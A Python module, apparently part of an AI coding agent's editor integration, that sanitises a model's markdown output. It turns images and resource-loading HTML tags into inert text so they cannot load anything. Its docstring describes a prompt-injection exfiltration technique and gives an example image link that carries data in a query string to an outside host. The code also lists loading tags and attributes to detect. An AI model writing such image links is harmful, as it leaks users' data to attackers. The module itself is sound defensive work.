"""The model's prose, made unable to load anything when a client renders it as markdown.

A prompt-injected model can exfiltrate what it read by writing ``![x](https://host/p.png?q=<data>)``: the
editor's markdown view fetches the image, and the query string carries the data. So every text of the
model that a client may render (streamed deltas, each turn's message, the run's answer) passes through
``Defanger`` first; the history the model reads back keeps what it wrote.

What changes, anywhere in the text (code spans and fenced blocks included):

- Every markdown image (``![`` starts one in every dialect) stops being one. An inline image
  ``![alt](url "title")`` becomes ``[image: alt](https://host/…)`` for an http(s) URL: a text link naming
  the host, whose target has no path or query left to carry data. Any other inline image becomes
  ``[image: alt — not loaded: <what>]`` (``a data: URI``, ``a file: URL on host``, ``a local path``…).
  Other forms (reference images ``![alt][ref]``, ``![alt]``, anything we cannot read as an inline image)
  get a space after the ``!``: ``! [alt][ref]`` is at most a link, opened only by a click.
- Every HTML start tag that can load something gets a space after its ``<`` (``< img src=…>`` is text to
  every markdown renderer and browser, and what follows is read on as text): tags that fetch by nature
  (``img``, ``image``, ``picture``, ``source``, ``video``, ``audio``, ``track``, ``iframe``, ``frame``,
  ``object``, ``embed``, ``link``, ``style``, ``script``, ``svg``, ``math``, ``meta``, ``base``, …) and
  any tag with an attribute that can (``src``, ``srcset``, ``style``, ``background``, ``poster``,
  ``data``, ``on…`` handlers, …). The tag is
  read as a browser's tokenizer reads it (HTML Living Standard 13.2.5, "tag open" to "after attribute
  value"), so quotes and ``>`` inside values cannot hide an attribute. A tag holding a ``<`` or ``![``
  counts as loading too (a change inside it could split a value into new attributes), and so does one not
  closed within ``HOLD_CHARS``; one cut by the end of the text is judged by what was read (a renderer's
  own ``</p>`` can close it). Other tags stay, whole (``<details>``, ``<kbd>``, ``Vec<u8>``,
  ``<a href=…>``; a nested generic ``Map<String, List<T>>`` gets its space).

``targets`` lists what the defanged parts pointed at (hosts, or ``a data: URI``…, read by
``core.link_target.describe_url``), for the warning the user sees; local paths are left out (they load
nothing from the network).

Why textual rules and not a markdown parser: the text is rendered by clients we do not control (VS Code's
markdown-it, Neovim and Emacs markdown modes, other editors' renderers), whose dialects disagree on code
spans, HTML blocks and extensions; a parser that judged "this image is inside code, keep it" could be
wrong for one of them. Rules that never depend on context hold for every renderer, and they give the
same output whether the text arrives whole or in pieces (a streamed delta never shows something the whole
text would not), which a parser of a partial document cannot. The price is that an image or an ``<img>``
in a code example is changed too. tests/unit/core/test_markdown_defang.py checks the rules against
markdown-it-py, the parser family VS Code renders markdown with.

A construct is judged within ``HOLD_CHARS`` characters of its start; one longer than that is defanged by
its short form (``! [`` or ``< ``) without reading further. While streaming, text that may still become a
construct (a trailing ``!`` or ``<``, an image or tag not yet closed) is held back until it is decided.
"""

from __future__ import annotations

import html
import re
from dataclasses import dataclass
from typing import Literal

from agent_ls.core.link_target import describe_url

HOLD_CHARS = 2048
"""Characters after the start of an image or tag within which it is read (and held back while streaming)."""

LOADING_TAGS = frozenset(
    {
        "applet", "audio", "base", "bgsound", "embed", "fencedframe", "frame", "frameset", "iframe",
        "ilayer", "image", "img", "input", "layer", "link", "math", "meta", "mglyph", "object", "picture",
        "portal", "script", "source", "style", "svg", "track", "video",
    }
)  # fmt: skip
"""Tag names (lower case) whose element fetches a resource (``input`` for ``type=image``)."""

LOADING_ATTRIBUTES = frozenset(
    {
        "background", "codebase", "data", "dynsrc", "formaction", "href", "lowsrc", "manifest", "ping",
        "poster", "src", "srcdoc", "srcset", "style", "xlink:href",
    }
)  # fmt: skip
"""Attribute names that make a tag fetch, on some element (``href`` for ``link``, ``base``, svg ``image``;
``style`` for CSS ``url()``), besides every ``on…`` event handler. ``href`` alone on ``a`` and ``area`` is a
link: kept."""

_LINK_TAGS = frozenset({"a", "area"})
_TRIGGER = re.compile(r"!\[|<[A-Za-z]")
_WHITESPACE = " \t\n\f\r"
_URL_IN_TAG = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.-]*:)?[/\\]{2}[^\s\"'<>()`]+|data:[^\s\"'<>()`]*", re.I)

More = Literal["maybe", "no", "cut"]
"""What may follow the window: more text may still come ("maybe", streaming), the text ends here ("no"),
or the text goes on past ``HOLD_CHARS`` ("cut")."""


@dataclass(frozen=True)
class Defanged:
    """A defanged text and what its defanged parts pointed at (hosts and schemes, in order, no repeats)."""

    text: str
    targets: tuple[str, ...]


def defang_markdown(text: str) -> Defanged:
    """``text`` with its images and loading HTML tags defanged (module docstring).

    ``targets`` also names where reference images (``![alt][ref]`` with ``[ref]: url`` anywhere in the
    text) pointed: they became links, but the user is told of them like of the others.
    """
    defanger = Defanger()
    out = defanger.feed(text) + defanger.flush()
    return Defanged(out, tuple(dict.fromkeys([*defanger.targets, *_reference_targets(text)])))


_DEFINITION = re.compile(r"^ {0,3}\[((?:[^\]\\]|\\.)+)\]:[ \t]*\n?[ \t]*(<[^>\n]*>|\S+)", re.M)


def _label(text: str) -> str:
    return " ".join(text.split()).casefold()


def _reference_targets(text: str) -> list[str]:
    """Where the reference images of ``text`` point, by its link reference definitions (CommonMark 4.7)."""
    definitions: dict[str, str] = {}
    for found in _DEFINITION.finditer(text):
        definitions.setdefault(_label(found[1]), found[2].strip("<>"))
    targets: list[str] = []
    for found in re.finditer(r"!\[", text) if definitions else ():
        nested = text.find("![", found.end())
        close = _bracket_end(text[: found.end() + HOLD_CHARS if nested < 0 else nested], found.end())
        if close is None:
            continue
        label = text[found.end() : close]
        if text.startswith("[", close + 1):
            end = _bracket_end(text, close + 2)
            if end is not None and end > close + 2:
                label = text[close + 2 : end]
        destination = definitions.get(_label(label))
        if destination is not None:
            host, what = describe_url(destination)
            if host or not what.startswith("a local path"):
                targets.append(host or what)
    return targets


class Defanger:
    """Defangs a text that arrives in pieces: ``feed`` each piece, then ``flush`` once.

    The pieces returned, joined, are exactly ``defang_markdown`` of the whole text. ``targets`` collects
    what was defanged so far (with repeats).
    """

    def __init__(self) -> None:
        self._pending = ""
        self._last = ""
        self.targets: list[str] = []

    def feed(self, piece: str) -> str:
        """The part of the text so far that is decided; the rest is held back."""
        self._pending += piece
        return self._drain(final=False)

    def flush(self) -> str:
        """Everything held back, decided as the end of the text."""
        return self._drain(final=True)

    def _drain(self, *, final: bool) -> str:
        text, pos, last = self._pending, 0, self._last
        out: list[str] = []
        while True:
            found = _TRIGGER.search(text, pos)
            if found is None:
                end = len(text) if final or not text.endswith(("!", "<")) else len(text) - 1
                out.append(text[pos:end])
                pos = end
                break
            start = found.start()
            if start > pos:
                out.append(text[pos:start])
                last = text[start - 1]
            window = text[start : start + HOLD_CHARS]
            more: More = "cut" if len(text) - start > HOLD_CHARS else "no" if final else "maybe"
            judge = _image if text[start] == "!" else _tag
            decided = judge(window, more, self.targets)
            if decided is None:
                pos = start
                break
            replacement, used = decided
            if replacement.startswith("[") and last == "!":
                replacement = " " + replacement  # "!" then "[image…](…)" must not become an image
            out.append(replacement)
            last = replacement[-1]
            pos = start + used
        self._pending = text[pos:]
        shown = "".join(out)
        self._last = shown[-1] if shown else self._last
        return shown


def _image(window: str, more: More, targets: list[str]) -> tuple[str, int] | None:
    """``window`` starts with ``![``: the replacement and how many characters it replaces; None: wait.

    An image is read only up to the next ``![`` (one inside another becomes ``! [``, and the inner one is
    read on its own), so each character is read for at most one image.
    """
    short = ("! ", 1)
    nested = window.find("![", 2)
    if nested > 0:
        window, more = window[:nested], "no"
    undecided = None if more == "maybe" else short
    close = _bracket_end(window, 2)
    if close is None:
        return undecided
    at = close + 1
    if at >= len(window):
        return undecided
    if window[at] != "(":
        return short
    at = _skip_space(window, at + 1)
    if at >= len(window):
        return undecided
    if window[at] == "<":
        end = _until(window, at + 1, ">", forbidden="<\n")
        if end is None or end < 0:
            return undecided if end is None else short
        destination, at = window[at + 1 : end], end + 1
    else:
        end = _raw_destination_end(window, at)
        if end is None:
            return undecided
        destination, at = window[at:end], end
    at = _skip_space(window, at)
    if at >= len(window):
        return undecided
    if window[at] in "\"'(":
        end = _until(window, at + 1, ")" if window[at] == "(" else window[at], forbidden="")
        if end is None:
            return undecided
        at = _skip_space(window, end + 1)
        if at >= len(window):
            return undecided
    if window[at] != ")":
        return short
    alt = defang_markdown(window[2:close])
    targets.extend(alt.targets)
    label = f"image: {alt.text}" if alt.text.strip() else "image"
    host, what = describe_url(destination)
    if what == "http":
        scheme = "http" if destination.lstrip().lower().startswith("http:") else "https"
        targets.append(host)
        return f"[{label}]({scheme}://{host}/…)", at + 1
    if host:
        targets.append(host)
    elif not what.startswith("a local path"):
        targets.append(what)
    return f"[{label} — not loaded: {what}]", at + 1


def _bracket_end(window: str, at: int) -> int | None:
    """Index of the ``]`` closing the ``[`` before ``at`` (nested brackets counted, ``\\`` escapes)."""
    depth = 1
    while at < len(window):
        char = window[at]
        if char == "\\":
            at += 2
            continue
        if char == "[":
            depth += 1
        elif char == "]":
            depth -= 1
            if depth == 0:
                return at
        at += 1
    return None


def _skip_space(window: str, at: int) -> int:
    while at < len(window) and window[at] in " \t\n":
        at += 1
    return at


def _until(window: str, at: int, closing: str, *, forbidden: str) -> int | None:
    """Index of ``closing`` from ``at`` (``\\`` escapes); -1 when a ``forbidden`` character comes first."""
    while at < len(window):
        char = window[at]
        if char == "\\":
            at += 2
            continue
        if char == closing:
            return at
        if char in forbidden:
            return -1
        at += 1
    return None


def _raw_destination_end(window: str, at: int) -> int | None:
    """End of a destination without ``<>``: at a space or control, or an unbalanced ``)``."""
    depth = 0
    while at < len(window):
        char = window[at]
        if char == "\\":
            at += 2
            continue
        if char <= " ":
            return at
        if char == "(":
            depth += 1
        elif char == ")":
            if depth == 0:
                return at
            depth -= 1
        at += 1
    return None


def _tag(window: str, more: More, targets: list[str]) -> tuple[str, int] | None:
    """``window`` starts with ``<`` and a letter: ``("< ", 1)`` when the tag may load (the text after the
    ``<`` is then read on as text), else the tag itself, kept whole; None: wait for more text.

    A tag is kept only when nothing inside it would be changed: one holding a ``<`` or ``![`` is judged as
    loading, since a renderer that does not take it for a tag would render what is inside, and a change
    inside a tag it does take (a space) could split an attribute value into new attributes.
    """
    less = window.find("<", 1)
    bang = window.find("![", 1, len(window) if less < 0 else less)  # read no further than the next "<"
    stop = bang if bang > 0 else less
    inner = stop > 0
    stop = stop if inner else len(window)
    name, attributes, end = _read_start_tag(window[:stop])
    if end is None:  # not closed before a "<", a "![" or the window's end
        if inner or more == "cut":
            attributes.append("src")  # judged as loading
        elif more == "maybe":
            return None
        # "no": the text ends inside the tag, and the renderer's own closing tags (</p>, </blockquote>)
        # may close it: judged by what was read
        end = stop
    loads = name in LOADING_TAGS or any(
        attribute.startswith("on")
        or (attribute in LOADING_ATTRIBUTES and not (attribute == "href" and name in _LINK_TAGS))
        for attribute in attributes
    )
    if not loads:
        return window[:end], end
    if name == "style":  # its URLs are in its content
        closing = window.lower().find("</style", end)
        end = len(window) if closing < 0 else closing
    for url in _URL_IN_TAG.findall(html.unescape(window[:end])):
        host, what = describe_url(url)
        targets.append(host or what)
    return "< ", 1


def _read_start_tag(window: str) -> tuple[str, list[str], int | None]:
    """The tag name, the attribute names (lower case, NUL as U+FFFD) and the end (after its ``>``) of the
    start tag ``window`` opens, read as the HTML tokenizer reads them; the end is None when the window
    ends first (the names are then those read so far)."""
    text = window.replace("\0", "\ufffd")
    at = 1
    while at < len(text) and text[at] not in _WHITESPACE + "/>":
        at += 1
    name = text[1:at].lower()
    attributes: list[str] = []
    while at < len(text):
        char = text[at]
        if char in _WHITESPACE or char == "/":
            at += 1
            continue
        if char == ">":
            return name, attributes, at + 1
        # attribute name: a leading "=" belongs to it; it ends at whitespace, "/", ">" or "="
        begin = at
        at += 1
        while at < len(text) and text[at] not in _WHITESPACE + "/>=":
            at += 1
        attributes.append(text[begin:at].lower())
        while at < len(text) and text[at] in _WHITESPACE:
            at += 1
        if at >= len(text) or text[at] != "=":
            continue
        at += 1
        while at < len(text) and text[at] in _WHITESPACE:
            at += 1
        if at >= len(text):
            break
        if text[at] in "\"'":
            closing = text.find(text[at], at + 1)
            if closing < 0:
                break
            at = closing + 1
        else:
            while at < len(text) and text[at] not in _WHITESPACE + ">":
                at += 1
    return name, attributes, None
